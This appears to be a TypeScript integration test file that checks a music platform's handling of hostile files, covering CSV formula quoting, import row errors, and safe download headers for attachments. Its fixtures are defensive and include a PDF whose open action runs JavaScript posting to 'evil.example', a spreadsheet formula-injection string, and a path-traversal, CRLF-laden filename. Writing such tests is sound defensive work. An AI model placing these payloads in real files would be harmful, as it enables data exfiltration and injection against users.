import { randomUUID } from 'node:crypto';
import { StorageService } from '@soundpost/server-core/storage';
import { LedgerService } from '@soundpost/server-wallet';
import { DataSource } from 'typeorm';
import { fileForm, PNG } from './support/kyc-fixtures';
import { approvedArtist, caller, completeRelease, newStaff } from './support/releases-fixtures';
import { createTestApp, TestApp } from './test-app';

/** Hostile files, second pass: what leaves the server as a file, and what big files do to it. */
describe('Hostile files (real app)', () => {
  let t: TestApp;
  let db: DataSource;
  let call: ReturnType<typeof caller>;
  let staff: { id: string; token: string };

  beforeAll(async () => {
    t = await createTestApp();
    db = t.app.get(DataSource);
    call = caller(t);
    staff = await newStaff(t);
  }, 60_000);
  afterAll(async () => {
    await t?.close();
  });

  describe('CSV exports quote what a semicolon-locale spreadsheet would split or run', () => {
    it('the wallet transactions export quotes x;=1+1', async () => {
      const artist = await approvedArtist(t);
      const { walletId } = await db.transaction((m) =>
        t.app.get(LedgerService).credit(m, { userId: artist.id, amountCents: 500, kind: 'royalty', description: 'x;=1+1', externalRef: randomUUID() }),
      );
      const res = await t.api(`/api/admin/wallets/transactions/export?wallet_id=${walletId}`, { token: staff.token });
      expect(res.status).toBe(200);
      const csv = await res.text();
      expect(csv).toContain(',completed,"x;=1+1",');
      expect(csv).not.toMatch(/[^"]x;=1\+1/);
    });

    it('the royalty statement CSV quotes x;=1+1', async () => {
      const artist = await approvedArtist(t);
      const release = await completeRelease(t, artist, call);
      const isrc = `QZH${String(process.pid % 100).padStart(2, '0')}26${String(Date.now() % 100000).padStart(5, '0')}`;
      await db.query('UPDATE tracks SET isrc = $2 WHERE release_id = $1', [release.id, isrc]);
      const body = new FormData();
      body.append('store_id', 'spotify');
      body.append('period_start', '2026-04-01');
      body.append('period_end', '2026-04-30');
      const report = `period_start,period_end,store,territory,isrc,upc,units,revenue,currency\n2026-04-01,2026-04-30,"x;=1+1",PT,${isrc},,10,4.00,EUR\n`;
      body.append('file', new Blob([report], { type: 'text/csv' }), `report-${randomUUID()}.csv`);
      const imported = await t.api('/api/admin/royalties/imports', { method: 'POST', token: staff.token, body });
      const importBody = await imported.json();
      expect([imported.status, importBody.matched]).toEqual([201, 1]);
      expect((await call('POST', `/admin/royalties/imports/${importBody.id}/post`, staff.token)).status).toBe(200);
      const res = await t.api('/api/artist/royalties/lines/export?from=2026-01', { token: artist.token });
      expect(res.status).toBe(200);
      const csv = await res.text();
      expect(csv).toContain(',"x;=1+1",PT,');
      expect(csv).not.toMatch(/[^"]x;=1\+1/);
    });
  });

  describe('imports never drop rows silently', () => {
    it('an artist CSV with a row over 64 KiB in the middle: every valid row after it is created, the skipped rows named by line and reason, the counts adding up', async () => {
      const lines = ['name,email,password'];
      for (let i = 1; i <= 3; i++) lines.push(`Before ${i},before${i}@big-row.test,pw-${i}`);
      lines.push(`${'x'.repeat(70 * 1024)},huge@big-row.test,pw`);
      lines.push('"Open quote,open@big-row.test,pw');
      lines.push(`Nul\u0000Name,nul@big-row.test,pw`);
      for (let i = 1; i <= 5; i++) lines.push(`After ${i},after${i}@big-row.test,pw-${i}`);
      const res = await t.api('/api/admin/artists/import', { method: 'POST', token: staff.token, body: fileForm('file', Buffer.from(lines.join('\n')), 'artists.csv', 'text/csv') });
      expect(res.status).toBe(200);
      const body = await res.json();
      expect(body).toEqual({
        created: 8,
        skipped: 3,
        error_count: 3,
        errors: [
          { row: 4, line: 5, message: 'Row 4: longer than 64 KiB' },
          { row: 5, line: 6, message: 'Row 5: broken quotes' },
          { row: 6, line: 7, message: 'Row 6: name contains invalid characters' },
        ],
      });
      expect(body.created + body.skipped).toBe(lines.length - 1);
      const emails: Array<{ email: string }> = await db.query(`SELECT email FROM users WHERE email LIKE '%@big-row.test' ORDER BY email`);
      expect(emails.map((r) => r.email)).toEqual([
        ...Array.from({ length: 5 }, (_, i) => `after${i + 1}@big-row.test`),
        ...Array.from({ length: 3 }, (_, i) => `before${i + 1}@big-row.test`),
      ]);
    });
  });

  describe('uploaded files are served as downloads, never as pages of our origin', () => {
    /** A PDF whose open action runs JavaScript. */
    const SCRIPTED_PDF = Buffer.from(
      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
        "3 0 obj << /S /JavaScript /JS (app.alert('x'); this.submitForm('https://evil.example/')) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    );
    const SANDBOX = "sandbox; default-src 'none'; frame-ancestors 'self'";

    async function ticketWith(files: Array<{ bytes: Buffer; name: string; type: string }>) {
      const artist = await approvedArtist(t);
      const body = new FormData();
      body.append('subject', 'Invoice');
      body.append('message', 'Attached');
      for (const f of files) body.append('attachments', new Blob([new Uint8Array(f.bytes)], { type: f.type }), f.name);
      const res = await t.api('/api/artist/tickets', { method: 'POST', token: artist.token, body });
      expect(res.status).toBe(201);
      return (await res.json()) as { attachments: Array<{ name: string; url: string }> };
    }

    it('a ticket attachment PDF holding JavaScript comes back as an attachment under its own name, not sniffed, sandboxed', async () => {
      const ticket = await ticketWith([
        { bytes: SCRIPTED_PDF, name: 'Facture été 2026.pdf', type: 'application/pdf' },
        { bytes: PNG, name: 'screen.png', type: 'image/png' },
      ]);
      const [pdf, png] = ticket.attachments;
      const res = await t.api(pdf.url);
      expect(res.status).toBe(200);
      expect(Buffer.from(await res.arrayBuffer()).equals(SCRIPTED_PDF)).toBe(true);
      expect(res.headers.get('content-type')).toBe('application/pdf');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="Facture ?t? 2026.pdf"; filename*=UTF-8''Facture%20%C3%A9t%C3%A9%202026.pdf`);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-security-policy')).toBe(SANDBOX);

      // An image the apps show stays inline, still not sniffed and sandboxed.
      const image = await t.api(png.url);
      expect(image.status).toBe(200);
      expect(Buffer.from(await image.arrayBuffer()).equals(PNG)).toBe(true);
      expect(image.headers.get('content-disposition')).toBe('inline; filename=screen.png');
      expect(image.headers.get('x-content-type-options')).toBe('nosniff');
      expect(image.headers.get('content-security-policy')).toBe(SANDBOX);
    });

    it('the name and the inline preview are signed: a link\'s holder cannot rename the file or turn it into a page', async () => {
      const ticket = await ticketWith([{ bytes: SCRIPTED_PDF, name: 'invoice.pdf', type: 'application/pdf' }]);
      const url = ticket.attachments[0].url;
      const status = async (link: string) => {
        const res = await t.api(link);
        await res.arrayBuffer();
        return res.status;
      };
      expect(await status(`${url}&disposition=inline`)).toBe(403);
      expect(await status(url.replace('name=invoice.pdf', 'name=invoice.html'))).toBe(403);
      // A preview link made by the server (staff's identity document review) is inline.
      const key = new URL(url, 'http://x').pathname.replace('/api/files/', '');
      const preview = await t.api(t.app.get(StorageService).signedUrl(key, 60, Date.now(), { name: 'id.pdf', inline: true }));
      expect(preview.status).toBe(200);
      expect(preview.headers.get('content-disposition')).toBe('inline; filename=id.pdf');
      expect(preview.headers.get('x-content-type-options')).toBe('nosniff');
      expect(Buffer.from(await preview.arrayBuffer()).equals(SCRIPTED_PDF)).toBe(true);
      // A name a header cannot carry as it is (control characters, folders) is cleaned, never a 500.
      const odd = await t.api(t.app.get(StorageService).signedUrl(key, 60, Date.now(), { name: '../x/in\tvoice\r\n.pdf' }));
      expect(odd.status).toBe(200);
      expect(odd.headers.get('content-disposition')).toBe('attachment; filename=invoice.pdf');
      await odd.arrayBuffer();
    });
  });
});
